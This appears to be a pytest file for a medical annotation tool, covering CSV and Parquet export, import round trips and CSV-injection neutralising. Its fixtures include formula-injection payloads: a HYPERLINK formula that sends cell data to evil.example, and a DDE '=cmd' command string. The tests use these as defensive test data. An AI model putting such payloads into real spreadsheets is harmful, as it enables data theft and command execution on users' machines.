"""Annotation export: columns, CSV-injection neutralising, round trip export -> import -> export, CLI."""
from __future__ import annotations

import csv
import io
import shutil

import pandas as pd
import pytest

from medviz import auth
from medviz.annotations import Annotation, close_writer, current_annotations, get_writer
from medviz.cli import main
from medviz.errors import MedvizError
from medviz.export import (ANNOTATION_COLUMNS, NO_COMPUTED_SIM, export_annotations, import_annotations, neutralise,
                           read_export, unneutralise)
from medviz.store import Store

MC, GMAI = "sample-mediconfusion", "sample-gmai"
BLIND = "image-blind-baseline"
IGNORED = "Visual confusion/Image ignored"
DETAIL = "Perceptual error/Detail missed"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
TRICKY = [HYPERLINK, "+1 then", "-2 minus", "@SUM(A1)", "\tTab first", "\rCR first", "'=already quoted",
          "''+two quotes", "plain, with commas", 'quotes "inside"\nand a\nnewline', "Ünïcödé – 肺 ✓",
          "'just quote"]
OWNER = auth.file_owner()           # restoring an export keeps its authors: the file's owner (an admin) imports


@pytest.fixture(scope="module")
def demo_file(sample_store_file):
    return sample_store_file


def _copy(demo_file, tmp_path, name):
    path = str(tmp_path / name)
    shutil.copy(demo_file, path)
    return path


@pytest.fixture
def annotated(demo_file, tmp_path):
    """A demo store with tricky annotations (formula-like text, commas, quotes, newlines, unicode)."""
    s = Store(_copy(demo_file, tmp_path, "src.duckdb"))
    w = get_writer(s)
    for k, text in enumerate(TRICKY):
        pid = f"s00{1 + k % 8}"
        a = w.save(Annotation(MC, "pair", pid, [IGNORED, DETAIL] if k % 3 == 0 else [IGNORED], f"rev {k % 3}",
                              model=BLIND if k % 2 else None, rationale=text, confidence=1 + k % 5),
                   auth.local(f"rev {k % 3}"))
        if k % 4 == 0:
            w.save(a.edit(rationale=text + " (edited)"), auth.local(f"rev {k % 3}"))
    w.save(Annotation(GMAI, "item", "3", ["Answer key disputed"], "=cmd|' /C calc'!A0", proposed_answer="-C",
                      rationale="key", confidence=5), auth.local("=cmd|' /C calc'!A0"))
    gone = w.save(Annotation(GMAI, "item", "4", ["Refusal"], "rev 1"), auth.local("rev 1"))
    w.retract(gone.annotation_id, auth.local("rev 1"))
    yield s
    close_writer(s)
    s.close()


def test_neutralise_is_exactly_undone():
    for text in TRICKY + ["", "safe", "a=b", "'", "''"]:
        out = neutralise(text)
        assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert unneutralise(out) == text


def test_export_rows_columns_and_injection(annotated):
    data = export_annotations(annotated)
    assert isinstance(data, bytes)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    header, body = rows[0], rows[1:]
    for col in ("benchmark_id", "target_id", "image_ids", "modality", "categories", "department", "model",
                "raw_answer", "parsed_answer", "correct_answer", "tag", "taxonomy_version", "reviewer",
                "confidence", "rationale", "created_at_utc", "updated_at_utc", "biomedclip_sim_benchmark",
                "dino_sim_benchmark", NO_COMPUTED_SIM, "medviz_version"):
        assert col in header
    # one row per current annotation x tag; the retracted annotation is absent
    cur = current_annotations(annotated)
    assert len(body) == sum(len(t) for t in cur["tags"])
    assert not any(r[header.index("target_id")] == "4" for r in body)
    # no cell a spreadsheet would run as a formula
    for r in body:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    rationales = [r[header.index("rationale")] for r in body]
    assert any(r.startswith("'" + HYPERLINK) for r in rationales)
    assert "'+1 then" in rationales and "'-2 minus" in rationales and "'''+two quotes" in rationales
    assert "'=cmd|' /C calc'!A0" in [r[header.index("reviewer")] for r in body]
    # the model's answers and the key sit beside the tag
    blind = [r for r in body if r[header.index("model")] == BLIND and r[header.index("target_id")] == "s002"]
    assert blind and blind[0][header.index("correct_answer")] == "A;B"
    assert blind[0][header.index("parsed_answer")].count(";") == 1
    assert blind[0][header.index("item_ids")] == "s002-1;s002-2"
    # newlines, commas, quotes and unicode survive a standard CSV reader
    df = read_export_bytes(data)
    assert {t.removesuffix(" (edited)") for t in df["rationale"]} == set(TRICKY) | {"key"}


def read_export_bytes(data: bytes) -> pd.DataFrame:
    import tempfile
    with tempfile.NamedTemporaryFile(suffix=".csv", delete=False) as f:
        f.write(data)
    return read_export(f.name)


def test_round_trip_export_import_export_is_identical(annotated, demo_file, tmp_path):
    first = tmp_path / "first.csv"
    export_annotations(annotated, str(first))
    back = Store(_copy(demo_file, tmp_path, "back.duckdb"))       # same benchmarks, no annotations
    try:
        n = import_annotations(back, str(first), by=OWNER)
        assert n == len(current_annotations(annotated))
        second = export_annotations(back)
        assert second == first.read_bytes()
        # the restored rows are the same annotations, field by field
        cols = ["annotation_id", "revision", "tags", "rationale", "reviewer", "model", "confidence",
                "proposed_answer", "created_at", "updated_at"]
        a = current_annotations(annotated).sort_values("annotation_id")[cols].reset_index(drop=True)
        b = current_annotations(back).sort_values("annotation_id")[cols].reset_index(drop=True)
        pd.testing.assert_frame_equal(a, b)
        # importing the same file again adds nothing and says why
        with pytest.raises(MedvizError, match="already in the database"):
            import_annotations(back, str(first), by=OWNER)
        assert len(current_annotations(back)) == n
    finally:
        close_writer(back)
        back.close()


def test_round_trip_into_an_empty_database_keeps_annotation_columns(annotated, tmp_path):
    first = tmp_path / "first.csv"
    export_annotations(annotated, str(first))
    with Store(str(tmp_path / "empty.duckdb")) as empty:
        import_annotations(empty, str(first), by=OWNER)
        again = read_export_bytes(export_annotations(empty))
        close_writer(empty)
    orig = read_export(str(first))
    pd.testing.assert_frame_equal(orig[ANNOTATION_COLUMNS], again[ANNOTATION_COLUMNS])


def test_parquet_round_trip_and_filters(annotated, demo_file, tmp_path):
    out = tmp_path / "a.parquet"
    export_annotations(annotated, str(out), fmt="parquet")
    df = pd.read_parquet(out)
    assert "+1 then" in set(df["rationale"])              # parquet is not a spreadsheet: text kept as is
    back = Store(_copy(demo_file, tmp_path, "back.duckdb"))
    try:
        import_annotations(back, str(out), by=OWNER)
        assert export_annotations(back, fmt="parquet") == out.read_bytes()
    finally:
        close_writer(back)
        back.close()
    only_blind = read_export_bytes(export_annotations(annotated, model=BLIND))
    assert set(only_blind["model"]) <= {BLIND, "(all models)"} and BLIND in set(only_blind["model"])
    ct = read_export_bytes(export_annotations(annotated, modality="ct"))
    assert len(ct) and all("CT" in m.split(" | ") for m in ct["modality"])
    assert set(read_export_bytes(export_annotations(annotated, benchmark_id=GMAI))["benchmark_id"]) == {GMAI}
    with pytest.raises(MedvizError):
        export_annotations(annotated, fmt="xlsx")


def test_import_errors_name_file_row_and_field(annotated, tmp_path):
    good = tmp_path / "good.csv"
    export_annotations(annotated, str(good))
    df = pd.read_csv(good, dtype=str, keep_default_na=False)
    bad = df.copy()
    bad.loc[bad["annotation_id"] == bad.loc[2, "annotation_id"], "confidence"] = "9"
    p = tmp_path / "bad.csv"
    bad.to_csv(p, index=False, lineterminator="\r\n")
    with Store(str(tmp_path / "e.duckdb")) as s:
        with pytest.raises(MedvizError) as e:
            import_annotations(s, str(p), by=OWNER)
        assert "bad.csv" in str(e.value) and e.value.field == "confidence"
        bad = df.copy()
        bad.loc[1, "reviewer"] = "someone else"                  # rows of one annotation must agree
        bad.to_csv(p, index=False, lineterminator="\r\n")
        if (df["annotation_id"] == df.loc[1, "annotation_id"]).sum() > 1:
            with pytest.raises(MedvizError, match="disagree on 'reviewer'"):
                import_annotations(s, str(p), by=OWNER)
        bad = df.copy()
        bad.loc[0, "tag"] = "Not a tag"
        bad.to_csv(p, index=False, lineterminator="\r\n")
        with pytest.raises(MedvizError, match="unknown tag"):
            import_annotations(s, str(p), by=OWNER)
        with pytest.raises(MedvizError, match="missing column"):
            pd.DataFrame({"x": [1]}).to_csv(p, index=False) or import_annotations(s, str(p), by=OWNER)
        assert current_annotations(s).empty                     # all or nothing
        close_writer(s)


def test_cli_export_and_import(annotated, demo_file, tmp_path, capsys):
    path = annotated.path
    close_writer(annotated)
    annotated.close()                                         # the CLI opens the file itself
    out = tmp_path / "cli.csv"
    assert main(["export", "annotations", "--db", path, "--out", str(out), "--model", BLIND]) == 0
    assert "exported" in capsys.readouterr().out
    target = _copy(demo_file, tmp_path, "cli_target.duckdb")
    assert main(["import", "annotations", str(out), "--db", target]) == 0
    assert "imported" in capsys.readouterr().out
    out2 = tmp_path / "cli2.csv"
    assert main(["export", "annotations", "--db", target, "--out", str(out2)]) == 0
    assert out2.read_bytes() == out.read_bytes()
    assert main(["import", "annotations", str(tmp_path / "missing.csv"), "--db", target]) == 2
    assert "file not found" in capsys.readouterr().err


def test_leading_nul_is_neutralised_in_sql_and_undone_on_import(demo_file, tmp_path):
    s = Store(_copy(demo_file, tmp_path, "nul.duckdb"))
    try:
        w = get_writer(s)
        w.save(Annotation(MC, "pair", "s001", [IGNORED], "rev", rationale="\x00=1+1", confidence=2), auth.local("rev"))
        data = export_annotations(s)
        body = list(csv.reader(io.StringIO(data.decode("utf-8"))))
        rationale = body[1][body[0].index("rationale")]
        assert rationale == "'\x00=1+1" and neutralise("\x00=1+1") == rationale
        assert list(read_export_bytes(data)["rationale"]) == ["\x00=1+1"]
        # the SQL rule and the Python rule agree on every tricky cell
        for text in TRICKY + ["\x00", "'\x00", "a\x00"]:
            got = s.cursor().execute("SELECT regexp_replace(?, ?, '''\\1')",
                                     [text, sql_rule()]).fetchone()[0]
            assert got == neutralise(text)
    finally:
        close_writer(s)
        s.close()


def sql_rule() -> str:
    from medviz.store.annotations import NEEDS_QUOTE_RE
    return NEEDS_QUOTE_RE


def test_computed_encoder_similarities_join_pair_rows(annotated, monkeypatch):
    """Per-encoder cosine columns (sim_<encoder>) sit on pair rows; item rows leave them empty."""
    from medviz.annotations import stats
    pairs = annotated.cursor().execute("SELECT pair_id, biomedclip_sim, dino_sim FROM pairs WHERE benchmark_id = ? "
                                       "ORDER BY pair_id", [MC]).df()
    fake = pairs.assign(sim_fake=[0.5 + k / 100 for k in range(len(pairs))])
    monkeypatch.setattr(stats, "encoder_similarities",
                        lambda store, b: fake if b == MC else fake.iloc[0:0].drop(columns=["sim_fake"]))
    annotated.cursor().execute("INSERT INTO embeddings VALUES ('fake', 'd', 'x', 1, [1.0], NULL)")
    try:
        df = read_export_bytes(export_annotations(annotated))
    finally:
        annotated.cursor().execute("DELETE FROM embeddings WHERE encoder_id = 'fake'")
    assert "sim_fake" in df.columns and NO_COMPUTED_SIM not in df.columns
    want = dict(zip(fake["pair_id"], fake["sim_fake"]))
    for r in df.itertuples():
        if r.target_type == "pair":
            assert float(r.sim_fake) == pytest.approx(want[r.target_id], abs=1e-6)
        else:
            assert r.sim_fake == ""
